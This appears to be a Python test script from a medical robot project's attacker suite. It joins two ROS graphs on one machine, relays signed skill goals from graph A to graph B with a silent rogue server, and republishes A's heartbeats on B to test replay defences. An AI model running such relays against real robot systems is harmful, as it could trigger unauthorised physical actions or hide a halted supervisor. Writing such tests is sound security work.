"""An attacker that joins two graphs on one machine: it listens on graph A's ROS domain and talks on graph B's.

It holds no key. It relies only on what two ``medrobot bringup`` graphs started by one user share by default:
the graph secret in ``~/.config/medrobot/keys`` (the tests give both graphs one keys folder to stand for it).
Any process may join any ROS_DOMAIN_ID, so what A's supervisor signs can be heard on A and said on B.

    cross_graph.py goals DOMAIN_A DOMAIN_B SECONDS SKILL[,SKILL...]
        a second, silent server on A's /medrobot/execute_skill reads each goal the supervisor sends (with its
        capability); a goal for one of the SKILLs is sent to B's skill server with the same goal id and fields.
        One JSON line per goal relayed: {"skill", "accepted", "success", "failure_kind", "message", "world"}.
    cross_graph.py beats DOMAIN_A DOMAIN_B SECONDS
        every /medrobot/heartbeat heard on A is published unchanged on B. One JSON line per change of B's robot
        status (halted, supervisor alive, supervisor instance): {"halted", "supervisor"}.

Both print {"ready": true} once their endpoints are up and end after SECONDS.
"""

from __future__ import annotations

import os
import queue
import sys
import time
from typing import Any

from rclpy.action import ActionClient, GoalResponse
from rclpy.callback_groups import ReentrantCallbackGroup

from medrobot_llm.backends.ros.common import ACTION_EXECUTE, TOPIC_HEARTBEAT
from tests.attackers.relay import QOS, SilentServer, join, report_status_changes, say, send_relayed


def relay_goals(a: int, b: int, seconds: float, skills: set[str]) -> None:
    from medrobot_interfaces.action import ExecuteSkill

    heard: queue.Queue[Any] = queue.Queue()

    def on_goal(goal: Any) -> GoalResponse:
        heard.put(goal)
        time.sleep(seconds + 5.0)  # the real skill server has long answered; this answer is never used
        return GoalResponse.REJECT

    node_a = join(a, "rogue_listener", threads=8)
    node_b = join(b, "rogue_sender", threads=8)
    SilentServer(node_a, ExecuteSkill, ACTION_EXECUTE, execute_callback=lambda _h: ExecuteSkill.Result(),
                 goal_callback=on_goal, callback_group=ReentrantCallbackGroup())
    client = ActionClient(node_b, ExecuteSkill, ACTION_EXECUTE)
    if not client.wait_for_server(timeout_sec=10.0):
        say({"error": "no skill server on graph B"})
        return
    say({"ready": True})
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            goal = heard.get(timeout=0.1)
        except queue.Empty:
            continue
        if goal.skill not in skills:
            continue
        say(send_relayed(client, goal))


def relay_beats(a: int, b: int, seconds: float) -> None:
    from medrobot_interfaces.msg import Heartbeat

    node_a = join(a, "rogue_beat_listener", threads=8)
    node_b = join(b, "rogue_beat_sender", threads=8)
    pub = node_b.create_publisher(Heartbeat, TOPIC_HEARTBEAT, QOS)
    node_a.create_subscription(Heartbeat, TOPIC_HEARTBEAT, pub.publish, QOS)
    report_status_changes(node_b)
    say({"ready": True})
    time.sleep(seconds)


def main(argv: list[str]) -> None:
    mode, a, b, seconds = argv[0], int(argv[1]), int(argv[2]), float(argv[3])
    if mode == "goals":
        relay_goals(a, b, seconds, set(argv[4].split(",")))
    else:
        relay_beats(a, b, seconds)
    sys.stdout.flush()
    os._exit(0)  # the executors' threads would otherwise hold the process


if __name__ == "__main__":
    main(sys.argv[1:])
